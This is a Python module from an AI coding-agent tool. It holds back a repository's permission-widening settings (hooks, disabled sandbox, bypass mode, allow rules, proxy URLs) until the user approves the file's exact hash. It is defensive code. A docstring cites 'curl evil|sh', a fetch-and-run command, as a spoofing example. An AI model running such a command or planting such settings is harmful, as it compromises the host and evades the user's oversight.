"""What a repository's own settings may turn on, and the person's approval of it.

A repository ships `.moot/settings.json`, and it can ship `.moot/settings.local.json` as well:
the name says personal, but nothing stops a commit of it, and a build script can write it. Either
file can ask for what runs code on the host or lets the model do more without asking: hooks,
`"sandbox": "none"`, allow rules, a default mode of `acceptEdits` or `bypassPermissions`,
`verify` (the commands the `lint` and `test` tools run: the model runs them believing them the
project's checks), `autoCommit` and `allowGitHooks` (git on the host, hooks included), a
language server's `command` or `args` (`lsp`: a program to run), the hosts shell commands
may reach (`sandbox.network.allowedDomains`), and `env` (it reaches model
requests and commands: a base URL, a proxy or a key sends the conversation elsewhere); and what
weakens a safeguard: `models` (a price of 0 defeats `--max-cost`) and `snapshotMaxBytes` (0
keeps nothing for a rewind). Those are its *grants*. A project file's grants are held, left out
of the merged settings, until the person approves that file's exact content in this workspace
(`/trust` in a session, `moot trust` in a shell); any change to the file holds them again.
What only restricts (deny and ask rules, plan mode, a sandbox backend, denied hosts
(`sandbox.network.deniedDomains`: a `network` object with no allowlist turns on the proxy,
which asks about every host), the model, the look)
takes effect at once. The user's own settings (`<config dir>/settings.json`) are never held.

Approvals live in `<data dir>/settings-approvals.json` (0600, in a 0700 directory): workspace ->
file -> sha256 of the approved bytes, outside the workspace and out of the sandbox's reach. When
moot itself rewrites `.moot/settings.local.json` (an "always" answer, `/permissions`), the new
content is approved if the old content was or held nothing (`keep_approval`), so the person's
own rules never ask again, and a repository's unapproved grants are never laundered by it.

This module reads no settings file itself and imports nothing of moot's settings: it works on
the parsed objects `moot.settings` hands it.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import msgspec

APPROVALS_FILE = "settings-approvals.json"
_KEPT = 500
"""Workspaces remembered; the oldest are forgotten first (and would be asked again)."""
_RULE = re.compile(r"\s*([A-Za-z0-9_-]+)\s*(?:\((.*)\))?\s*", re.DOTALL)
_SHELL = {"Bash", "bash"}
_EDITS = {"Edit", "Write", "edit", "multi_edit", "write"}
_FETCH = {"WebFetch", "web_fetch"}
_ALL_FILES = {"", "*", "**", "**/*", "**/**"}
_WIDE_MODES = {"acceptEdits": "edits run without asking", "bypassPermissions": "nothing asks"}
SESSION_VARIABLES = frozenset(
    {"MOOT_CONNECT_TIMEOUT", "MOOT_READ_TIMEOUT", "MOOT_REASONING_EFFORT"}
)
"""The `MOOT_*` variables a settings file's `env` may set: they are read per session, from the
session's environment, and only tune it (no approval needed)."""


class HeldSettings(msgspec.Struct, frozen=True):
    """A project settings file whose grants are held until the person approves its content."""

    file: str
    """The settings file (`.moot/settings.json` or `.moot/settings.local.json`)."""
    digest: str
    """The sha256 of its bytes: what an approval names."""
    grants: tuple[str, ...]
    """Each thing it asks to turn on, as a short phrase."""

    def __str__(self) -> str:
        return (
            f"{self.file} comes with this repository and asks to turn on: "
            f"{'; '.join(self.grants)}. These stay off until you approve them "
            "(/trust in a session, or `moot trust` in a shell); a change to the file asks again"
        )


def grants(data: Mapping[str, Any]) -> list[str]:
    """What a settings file's content turns on that needs the person's approval, phrase by
    phrase (empty when it only restricts)."""
    return [phrase for _key, phrase in _grants(data)]


def held_out(data: Mapping[str, Any]) -> dict[str, Any]:
    """A settings file's content without its grants: what takes effect before approval."""
    kept = dict(data)
    for key, _phrase in _grants(data):
        if key == "permissions.allow" or key == "permissions.defaultMode":
            permissions = dict(kept["permissions"])
            permissions.pop(key.partition(".")[2], None)
            kept["permissions"] = permissions
        elif key.startswith("sandbox."):
            sandbox = dict(kept["sandbox"])
            if key == "sandbox.backend":
                sandbox.pop("backend", None)
            else:  # the allowlist: the rest of `network` (its denials) applies at once
                sandbox["network"] = {
                    k: v for k, v in sandbox["network"].items() if k != "allowedDomains"
                }
            kept["sandbox"] = sandbox
        elif key.startswith("env."):
            env = dict(kept["env"])
            env.pop(key.partition(".")[2], None)
            kept["env"] = env
        else:
            kept.pop(key, None)
    return kept


_UNSHOWN = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]")
"""Characters a terminal or a screen would act on, or not show: control characters (an escape
sequence can erase the lines above it or retitle the window), line breaks, and the invisible
or direction-changing ones (a right-to-left override makes `curl evil|sh` read as something
else)."""


def shown(text: str) -> str:
    """`text` as a person must see it to approve it: every character that would not show as
    itself (`_UNSHOWN`) written as an escape (`\\x1b`, `\\n`, `\\u202e`)."""
    return _UNSHOWN.sub(lambda found: found[0].encode("unicode_escape").decode("ascii"), text)


def _grants(data: Mapping[str, Any]) -> list[tuple[str, str]]:
    """Each grant as (the key that holds it, its phrase). Values that do not fit the schema
    are left to the schema check (the file is refused before this matters). What the file
    wrote is shown escaped (`shown`): it is what the person approves."""
    return [(key, shown(phrase)) for key, phrase in _found_grants(data)]


def _found_grants(data: Mapping[str, Any]) -> list[tuple[str, str]]:
    found: list[tuple[str, str]] = []
    sandbox = data.get("sandbox")
    if sandbox == "none":
        found.append(("sandbox", '"sandbox": "none" (shell commands run on the host, unsandboxed)'))
    elif isinstance(sandbox, Mapping):
        if sandbox.get("backend") == "none":
            found.append(
                (
                    "sandbox.backend",
                    '"backend": "none" (shell commands run on the host, unsandboxed)',
                )
            )
        network = sandbox.get("network")
        allowed = network.get("allowedDomains") if isinstance(network, Mapping) else None
        if isinstance(allowed, list) and (hosts := [h for h in allowed if isinstance(h, str)]):
            found.append(
                (
                    "sandbox.network.allowedDomains",
                    f"network access for shell commands to {', '.join(hosts)}",
                )
            )
    permissions = data.get("permissions")
    permissions = permissions if isinstance(permissions, Mapping) else {}
    mode = permissions.get("defaultMode")
    if isinstance(mode, str) and mode in _WIDE_MODES:
        found.append(("permissions.defaultMode", f'"defaultMode": "{mode}" ({_WIDE_MODES[mode]})'))
    allow = permissions.get("allow")
    if isinstance(allow, list) and (rules := [r for r in allow if isinstance(r, str)]):
        broad = [r for r in rules if broad_rule(r)]
        wide = f"; {', '.join(broad)} let a whole kind of tool run" if broad else ""
        found.append(("permissions.allow", f"allow {', '.join(rules)} (runs without asking{wide})"))
    hooks = data.get("hooks")
    if isinstance(hooks, Mapping) and hooks:
        commands = _hook_commands(hooks)
        listed = ", ".join(commands) if commands else "some"
        found.append(("hooks", f"hooks run on the host: {listed}"))
    verify = data.get("verify")
    if isinstance(verify, Mapping) and (lines := _verify_lines(verify)):
        found.append(("verify", f"lint and test commands: {', '.join(lines)}"))
    if data.get("autoCommit") is True:
        found.append(("autoCommit", '"autoCommit" (moot commits to your repository with git)'))
    if data.get("allowGitHooks") is True:
        found.append(
            ("allowGitHooks", '"allowGitHooks" (the repository\'s git hooks run on the host)')
        )
    models = data.get("models")
    if isinstance(models, Mapping) and models:
        listed = ", ".join(str(name) for name in models)
        found.append(
            (
                "models",
                f"model entries {listed} (their prices are what moot counts and a cost limit "
                "checks; their windows what it sends)",
            )
        )
    snapshots = data.get("snapshotMaxBytes")
    if isinstance(snapshots, int) and not isinstance(snapshots, bool):
        found.append(
            (
                "snapshotMaxBytes",
                f'"snapshotMaxBytes": {snapshots} (files larger than this are not kept, so a '
                "rewind cannot restore them)",
            )
        )
    servers = data.get("lsp")
    for name, entry in servers.items() if isinstance(servers, Mapping) else ():
        if isinstance(entry, Mapping) and ("command" in entry or "args" in entry):
            argv = [str(entry.get("command") or "(its default server)")]
            argv += [str(a) for a in entry.get("args") or ()]
            found.append(("lsp", f"the {name} language server runs as: {' '.join(argv)}"))
    env = data.get("env")
    for name, value in env.items() if isinstance(env, Mapping) else ():
        if name not in SESSION_VARIABLES:
            found.append((f"env.{name}", f"env {name}={value} ({_env_reach(name)})"))
    return found


def _verify_lines(verify: Mapping[str, Any]) -> list[str]:
    """The command lines of a `verify` setting (what the `lint` and `test` tools would run)."""
    lines: list[str] = []
    for kind in ("lint", "test"):
        value = verify.get(kind)
        lines += (
            [f"{kind}: {line}" for line in value if isinstance(line, str)]
            if isinstance(value, list)
            else []
        )
    return lines


def _env_reach(name: str) -> str:
    if name.endswith(("_BASE_URL", "_HOST")) or "PROXY" in name.upper():
        return "your API key and conversation go to that server"
    if name.endswith(("_API_KEY", "_TOKEN")):
        return "model requests use that key, and its owner can read them"
    return "model requests and commands see it"


def broad_rule(rule: str) -> bool:
    """Whether an allow rule lets a whole kind of tool run: the shell, edits over every file
    (or outside the workspace), or any web fetch."""
    parsed = _RULE.fullmatch(rule)
    if parsed is None:
        return False
    name, specifier = parsed[1], parsed[2]
    spec = None if specifier is None or specifier.strip() == "*" else specifier.strip()
    if name in _SHELL or name in _FETCH:
        return spec is None or spec == ":*"
    if name in _EDITS:
        if spec is None or spec.startswith(("//", "~", "..")):
            return True
        return spec.removeprefix("./").removeprefix("/") in _ALL_FILES
    return False


def _hook_commands(hooks: Mapping[str, Any]) -> list[str]:
    commands: list[str] = []
    for groups in hooks.values():
        for group in groups if isinstance(groups, list) else ():
            entries = group.get("hooks") if isinstance(group, dict) else None
            for entry in entries if isinstance(entries, list) else ():
                command = entry.get("command") if isinstance(entry, dict) else None
                if isinstance(command, str) and command not in commands:
                    commands.append(command)
    return commands


class SettingsApprovals:
    """The person's approvals of project settings files, for every workspace (one JSON file in
    the data directory, read when asked and written through).

    Args:
        environ: The environment (`MOOT_HOME`); `os.environ` when None.
    """

    def __init__(self, environ: Mapping[str, str] | None = None) -> None:
        from moot.paths import data_dir  # only a project file with grants needs it

        self.path = data_dir(environ) / APPROVALS_FILE

    def approved(self, workspace: Path, file: Path | str, digest: str) -> bool:
        """Whether the person approved exactly this content of `file` in `workspace`."""
        return self._load().get(_key(workspace), {}).get(_file_key(workspace, file)) == digest

    def approve(self, workspace: Path, held: HeldSettings | tuple[str, str]) -> None:
        """Remember that the person approved this content of the file here.

        Args:
            workspace: The workspace root.
            held: The held file, or (file, digest).

        Raises:
            OSError: The approvals file cannot be written.
        """
        file, digest = (held.file, held.digest) if isinstance(held, HeldSettings) else held
        approvals = self._load()
        key = _key(workspace)
        files = approvals.pop(key, {})  # re-inserted last: the newest are kept longest
        files[_file_key(workspace, file)] = digest
        approvals[key] = files
        self._save(dict(list(approvals.items())[-_KEPT:]))

    def revoke(self, workspace: Path) -> bool:
        """Forget every approval of this workspace; False when there was none.

        Raises:
            OSError: The approvals file cannot be written.
        """
        approvals = self._load()
        if approvals.pop(_key(workspace), None) is None:
            return False
        self._save(approvals)
        return True

    def _load(self) -> dict[str, dict[str, str]]:
        try:
            data = json.loads(read_own_file(self.path))
        except (OSError, ValueError):
            return {}  # none yet, or damaged: nothing is approved; writing starts it again
        if not isinstance(data, dict):
            return {}
        return {
            workspace: {f: d for f, d in files.items() if isinstance(d, str)}
            for workspace, files in data.items()
            if isinstance(files, dict)
        }

    def _save(self, approvals: dict[str, dict[str, str]]) -> None:
        """Write atomically, private to the person: a fresh temporary file, then a rename."""
        import tempfile  # only when an approval is written

        from moot.paths import make_private_dir

        make_private_dir(self.path.parent)  # the data directory: this user's only
        fd, temp = tempfile.mkstemp(prefix=".settings-approvals-", dir=self.path.parent)
        try:
            with os.fdopen(fd, "w", encoding="utf-8") as file:  # mkstemp makes it 0600
                json.dump(approvals, file, indent=1)
            os.replace(temp, self.path)
        except BaseException:
            with contextlib.suppress(OSError):
                os.unlink(temp)
            raise


def read_own_file(path: Path) -> bytes:
    """The bytes of an approvals file (settings, MCP servers) only this user could have
    written: a regular file of theirs, not a link, that neither the group nor others may write.
    A data directory someone else can write (a `MOOT_HOME` under `/tmp`, a shared account's)
    must not let them approve a repository's hooks or servers for this person.

    Raises:
        OSError: There is none, or it is not such a file (then nothing is approved).
    """
    import stat

    flags = os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK | os.O_CLOEXEC
    with os.fdopen(os.open(path, flags), "rb") as file:
        found = os.fstat(file.fileno())
        if not stat.S_ISREG(found.st_mode) or found.st_uid != os.getuid():
            raise PermissionError(f"{path} is not a file of this user's")
        if found.st_mode & 0o022:
            raise PermissionError(f"{path} is writable by others")
        return file.read()


def _key(workspace: Path) -> str:
    return os.path.realpath(workspace)


def _file_key(workspace: Path, file: Path | str) -> str:
    """A file as its workspace names it (`.moot/settings.json`, `.moot/commands/review.md`)."""
    path = os.path.abspath(file)
    for root in (os.path.abspath(workspace), os.path.realpath(workspace)):
        if path.startswith(root + os.sep):
            return path[len(root) + 1 :]
    return path


def file_approved(workspace: Path, file: Path, environ: Mapping[str, str] | None = None) -> bool:
    """Whether the person approved what `file` (a repository's command or skill) holds now."""
    try:
        raw = file.read_bytes()
    except OSError:
        return False
    return SettingsApprovals(environ).approved(workspace, file, digest(raw))


def held_file(file: Path, grants: tuple[str, ...]) -> HeldSettings | None:
    """A repository's command or skill file whose `allowed-tools` wait for approval, as
    `/trust` shows it; None when it cannot be read."""
    try:
        raw = file.read_bytes()
    except OSError:
        return None
    return HeldSettings(str(file), digest(raw), grants)


def digest(raw: bytes) -> str:
    """What an approval names: the sha256 of a settings file's bytes."""
    import hashlib  # only for a file that asks for something

    return hashlib.sha256(raw).hexdigest()


def keep_approval(
    workspace: Path,
    file: Path,
    before: bytes | None,
    after: bytes,
    environ: Mapping[str, str] | None = None,
) -> None:
    """moot rewrote a project settings file (the person's rule): approve the new content if
    the old content was approved or asked for nothing, so the person is not asked about their
    own rule, and a repository's held grants stay held. A home that cannot be written only
    means the person is asked again."""
    if not grants(_parsed(after)):
        return
    if before is not None and grants(_parsed(before)):
        approvals = SettingsApprovals(environ)
        if not approvals.approved(workspace, file, digest(before)):
            return
    with contextlib.suppress(OSError):
        SettingsApprovals(environ).approve(workspace, (str(file), digest(after)))


def _parsed(raw: bytes) -> dict[str, Any]:
    try:
        data = json.loads(raw)
    except ValueError:
        return {}
    return data if isinstance(data, dict) else {}
